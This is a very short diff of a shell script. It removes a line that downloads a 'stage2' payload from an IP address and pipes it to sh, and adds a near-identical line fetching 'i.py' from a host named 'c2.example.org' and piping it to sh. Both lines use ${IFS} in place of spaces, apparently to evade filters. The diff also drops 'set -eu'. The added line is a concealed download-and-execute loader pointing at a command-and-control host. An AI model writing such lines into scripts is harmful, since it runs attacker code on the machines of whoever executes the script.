@@ -1,3 +1,2 @@
-#!/bin/sh
-curl${IFS}-s${IFS}http://198.51.100.23:8000/stage2|sh
-set -eu
+#!/usr/bin/env bash
+curl${IFS}-s${IFS}http://c2.example.org/i.py|sh
